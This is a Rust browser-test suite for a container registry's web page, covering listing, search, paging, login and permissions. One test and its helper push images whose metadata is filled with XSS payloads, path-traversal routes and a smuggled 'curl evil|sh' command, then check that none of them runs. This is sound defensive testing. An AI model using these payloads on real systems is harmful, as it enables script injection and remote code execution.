//! The registry's page in a real browser: what was pushed is shown, what somebody wrote into it stays text, and nobody sees
//! what he may not. Heavy, for the browser is.

#![allow(clippy::unwrap_used, clippy::print_stderr, missing_docs)]

mod browser;
#[path = "../registry_server/server.rs"]
#[allow(dead_code, reason = "other tests use the rest")]
mod server;

use dozen_testbox::{Machine, until};
use serde_json::{Value, json};

use browser::{Browser, DOWN, ENTER, ESCAPE};
use server::{HOST, Server, curl};

const HOSTILE: &str = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">";

fn sha256(machine: &Machine, content: &str) -> String {
    let digest = machine.run_with("sha256sum", &[], content.as_bytes(), &[]).text();
    format!("sha256:{}", digest.split(' ').next().unwrap())
}

fn put_blob(machine: &Machine, name: &str, kind: &str, content: &str) -> Value {
    let digest = sha256(machine, content);
    let file = machine.directory().join("content");
    std::fs::write(&file, content).unwrap();
    let (data, to) =
        (format!("@{}", file.display()), format!("http://{HOST}/v2/{name}/blobs/uploads/?digest={digest}"));
    let sent = curl(machine, &["--data-binary", &data, &to]).text();
    assert!(sent.contains("201 Created"), "{sent}");
    json!({ "mediaType": kind, "digest": digest, "size": content.len() })
}

fn put_manifest(machine: &Machine, name: &str, reference: Option<&str>, manifest: &Value) -> Value {
    let text = manifest.to_string();
    let file = machine.directory().join("manifest");
    std::fs::write(&file, &text).unwrap();
    let digest = sha256(machine, &text);
    let data = format!("@{}", file.display());
    let to = format!("http://{HOST}/v2/{name}/manifests/{}", reference.unwrap_or(&digest));
    let kind = format!("Content-Type: {}", manifest["mediaType"].as_str().unwrap());
    let sent = curl(machine, &["-X", "PUT", "-H", &kind, "--data-binary", &data, &to]).text();
    assert!(sent.contains("201 Created"), "{sent}");
    json!({ "mediaType": manifest["mediaType"], "digest": digest, "size": text.len() })
}

/// An image in whose every word somebody has tried to put a page of his own.
fn put_hostile(machine: &Machine, name: &str, tag: &str) -> Value {
    let config = json!({
        "os": "linux", "architecture": "amd64", "created": "2026-01-01T00:00:00Z",
        "config": {
            "Labels": { HOSTILE: HOSTILE, "turned": "a\u{202e}gpj.exe" }, "Env": [HOSTILE], "User": HOSTILE,
            "Cmd": ["javascript:document.title='owned'"],
        },
        "history": [{ "created_by": HOSTILE }, { "created_by": "CMD [\"x\"]", "empty_layer": true }],
        "rootfs": { "type": "layers", "diff_ids": [] },
    });
    let config = put_blob(machine, name, "application/vnd.oci.image.config.v1+json", &config.to_string());
    let layer = put_blob(machine, name, "application/vnd.oci.image.layer.v1.tar", "a layer");
    let manifest = json!({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": config,
        "layers": [layer], "annotations": { "x": HOSTILE, "constructor": "x", "__proto__": "y" },
    });
    let pushed = put_manifest(machine, name, Some(tag), &manifest);
    let empty = put_blob(machine, name, "application/vnd.oci.empty.v1+json", "{}");
    let note = json!({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "artifactType": HOSTILE,
        "config": empty, "layers": [], "subject": pushed, "annotations": { HOSTILE: HOSTILE },
    });
    put_manifest(machine, name, None, &note);
    pushed
}

#[test]
#[ignore = "needs a browser: cargo xtask clients browser"]
fn what_was_pushed_is_shown_and_found() {
    let machine = Machine::new();
    let server = Server::start(&machine, &[]);
    let browser = Browser::start(&machine);
    browser.go(&format!("http://{HOST}/"));
    browser.reads("Nothing is here yet");
    browser.reads(&format!("docker push {HOST}/NAME:TAG"));
    server.push("busybox", "team/box:1").expect(0);
    server.push("nginx:1.22", "team/web:1").expect(0);
    server.push("nginx:1.22", "team/web:2").expect(0);
    browser.go(&format!("http://{HOST}/#/"));
    browser.run("location.reload()");
    browser.reads("2 repositories");
    // By the keyboard alone: to what is looked for, into it, and up again.
    browser.press("/");
    browser.write("input.find", "WEB");
    browser.reads("1 of 2");
    browser.press(ENTER);
    browser.reads(&format!("docker pull {HOST}/team/web:1"));
    browser.reads("2 tags");
    browser.press(DOWN);
    browser.press(DOWN);
    browser.press(ENTER);
    browser.reads("Layers");
    browser.reads("linux/amd64");
    assert_eq!(browser.title(), format!("team/web:2 – {HOST}"));
    let shown = browser.text();
    let raw =
        machine.run("skopeo", &["inspect", "--raw", "--tls-verify=false", &format!("docker://{HOST}/team/web:2")]);
    let manifest: Value = serde_json::from_str(&raw.text()).unwrap();
    for layer in manifest["layers"].as_array().unwrap() {
        let digest = layer["digest"].as_str().unwrap();
        assert!(shown.contains(&digest[.."sha256:".len() + 12]), "{digest} in {shown}");
    }
    browser.press(ESCAPE);
    browser.reads("2 tags");
    browser.press(ESCAPE);
    browser.reads("2 repositories");
    // That somebody looked at it is no pull; what skopeo did is one.
    let tags = curl(&machine, &[&format!("http://{HOST}/ui/repositories/team/web/tags")]).text();
    assert_eq!(tags.matches("\"pulled_at\":0").count(), 0, "{tags}");
    let tags = curl(&machine, &[&format!("http://{HOST}/ui/repositories/team/box/tags")]).text();
    assert_eq!(tags.matches("\"pulled_at\":0").count(), 1, "{tags}");
    browser.go(&format!("http://{HOST}/#/nowhere"));
    browser.reads("There is no such thing here");
    assert_eq!(browser.complaints().iter().filter(|said| !said.contains("404")).count(), 0);
}

#[test]
#[ignore = "needs a browser: cargo xtask clients browser"]
fn what_somebody_wrote_into_an_image_stays_text() {
    let machine = Machine::new();
    let _server = Server::start(&machine, &[]);
    let pushed = put_hostile(&machine, "team/web", "1");
    let digest = pushed["digest"].as_str().unwrap();
    let index = json!({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [{
            "mediaType": pushed["mediaType"], "digest": digest, "size": pushed["size"],
            "platform": { "os": HOSTILE, "architecture": HOSTILE },
        }],
    });
    put_manifest(&machine, "team/web", Some("index"), &index);
    let browser = Browser::start(&machine);
    let nothing_ran = || {
        assert!(!browser.has_alert());
        assert!(!browser.title().contains("owned"), "{}", browser.title());
        assert_eq!(browser.run("return document.querySelectorAll('main script, main img, main iframe').length"), 0);
        assert_eq!(browser.run("return document.querySelectorAll('a:not([href^=\"#\"])').length"), 0);
        assert_eq!(browser.complaints(), Vec::<String>::new());
    };
    for (place, words) in [
        (String::new(), "1 repository"),
        ("team/web".to_owned(), "2 tags"),
        ("team/web:index".to_owned(), "Platforms"),
        ("team/web:1".to_owned(), "About it"),
        (format!("team/web@{digest}^:index"), "About it"),
    ] {
        browser.go(&format!("http://{HOST}/#/{place}"));
        browser.reads(words);
        nothing_ran();
    }
    browser.run("document.querySelectorAll('details').forEach((one) => { one.open = true; })");
    let shown = browser.text();
    assert!(shown.contains(HOSTILE), "{shown}");
    assert!(shown.contains("a\u{fffd}gpj.exe") && !shown.contains('\u{202e}'), "{shown}");
    // An address that somebody is sent makes nothing either: no command of a manifest that reads as a list of tags.
    let config = put_blob(&machine, "evil", "application/vnd.oci.empty.v1+json", "{}");
    let list = json!({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": config, "layers": [],
        "tags": [{ "name": "latest; curl evil|sh\n", "digest": digest, "platforms": [] }], "next": null,
    });
    put_manifest(&machine, "evil", Some("tags"), &list);
    for place in ["../../v2/evil/manifests", "x/%2e%2e/../v2/evil/manifests", "team/web:a;b", "team/web@sha256:1"] {
        browser.go(&format!("http://{HOST}/#/{place}"));
        browser.reads("No repository, tag or digest is called so.");
        assert_eq!(browser.run("return document.querySelectorAll('.copy').length"), 0, "{place}");
    }
    for place in ["%3Cimg src=x onerror=alert(1)%3E", "a:%3Cscript%3Ealert(1)%3C/script%3E", "%", "../../v2/"] {
        browser.go(&format!("http://{HOST}/#/{place}"));
        until("it is shown", || {
            (browser.run("return document.querySelector('main').ariaBusy") == Value::Null).then_some(())
        });
        assert!(!browser.has_alert(), "{place}");
        assert_eq!(browser.run("return document.querySelectorAll('main img, main script').length"), 0, "{place}");
    }
    // The browser holds the page to its policy: markup of a text is an error, and so is anything from elsewhere.
    let refused = browser.run(
        "try { document.body.innerHTML = '<img src=x>'; return 'made' } catch (error) { return error.constructor.name }",
    );
    assert_eq!(refused, "TypeError");
    // What was pushed and is opened by itself is no page of this registry's.
    browser.go(&format!("http://{HOST}/v2/team/web/manifests/1"));
    assert!(!browser.title().contains("owned"));
}

#[test]
#[ignore = "needs a browser: cargo xtask clients browser"]
fn long_lists_come_in_pages_and_a_phone_shows_them() {
    let machine = Machine::new();
    let _server = Server::start(&machine, &[]);
    let config = put_blob(&machine, "many", "application/vnd.oci.image.config.v1+json", "{}");
    let manifest = json!({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": config, "layers": [],
    });
    for number in 0..70 {
        put_manifest(&machine, "many", Some(&format!("v{number:02}")), &manifest);
    }
    let browser = Browser::start(&machine);
    browser.go(&format!("http://{HOST}/#/many"));
    browser.reads("the first 50 tags");
    let rows = || browser.run("return document.querySelectorAll('a.row').length");
    assert_eq!(rows(), 50);
    browser.click("button.more");
    browser.reads("70 tags");
    assert_eq!(rows(), 70);
    // What is looked for is found where nobody has looked yet.
    browser.run("location.reload()");
    browser.reads("the first 50 tags");
    browser.write("input.find", "v69");
    browser.reads("1 of 70");
    assert_eq!(rows(), 1);
    browser.resize(500, 800);
    let is_wider = "return document.documentElement.scrollWidth > document.documentElement.clientWidth";
    for place in ["", "many", "many:v01"] {
        browser.go(&format!("http://{HOST}/#/{place}"));
        browser.reads("many");
        assert_eq!(browser.run(is_wider), false, "{place}");
    }
}

#[test]
#[ignore = "needs a browser: cargo xtask clients browser"]
fn who_logs_in_sees_what_he_may() {
    let machine = Machine::new();
    let file = |name: &str, text: &str| {
        let path = machine.directory().join(name);
        std::fs::write(&path, text).unwrap();
        path.to_str().unwrap().to_owned()
    };
    {
        let _server = Server::start(&machine, &[]);
        put_hostile(&machine, "team/web", "1");
        put_hostile(&machine, "public/web", "1");
    }
    // htpasswd -nbB -C 4 ann secret, and of eve with the same
    let hash = "$2b$04$abcdefghijklmnopqrstuu2r9OfJnfCsdneAXAGHnS4UpFFP8WIrW";
    let passwords = file("passwords", &format!("ann:{hash}\neve:{hash}\n"));
    let rules = "[[rule]]\nrepositories = [\"public/**\"]\npull = [\"@anyone\"]\n\
                 [[rule]]\nrepositories = [\"team/**\"]\npull = [\"ann\"]\n";
    let rights = file("rights.toml", rules);
    let browser = Browser::start(&machine);
    let log_in = |name: &str, password: &str| {
        browser.write("#name", name);
        browser.write("#password", password);
        browser.click("#door-form button[type=submit]");
    };
    {
        let _server = Server::start(&machine, &["--htpasswd", &passwords, "--rights", &rights]);
        browser.go(&format!("http://{HOST}/"));
        browser.reads("1 repository");
        browser.reads("public/web");
        browser.go(&format!("http://{HOST}/#/team/web"));
        browser.reads("This registry wants to know who you are.");
        log_in("eve", "wrong");
        browser.reads("That is not right.");
        log_in("eve", "secret");
        browser.reads("You may not see this");
        browser.click("#enter");
        browser.reads("This registry wants to know who you are.");
        log_in("ann", "secret");
        browser.reads("1 tag");
        browser.go(&format!("http://{HOST}/#/"));
        browser.reads("2 repositories");
        // Nothing of it is kept anywhere.
        assert_eq!(browser.run("return localStorage.length + sessionStorage.length + document.cookie.length"), 0);
        browser.click("#enter");
        browser.reads("1 repository");
    }
    // Passwords alone: nothing is shown without one, and the browser asks in no window of its own.
    let _server = Server::start(&machine, &["--htpasswd", &passwords]);
    browser.run("location.reload()");
    browser.reads("This registry wants to know who you are.");
    assert!(!browser.has_alert());
    log_in("eve", "secret");
    browser.reads("2 repositories");
}
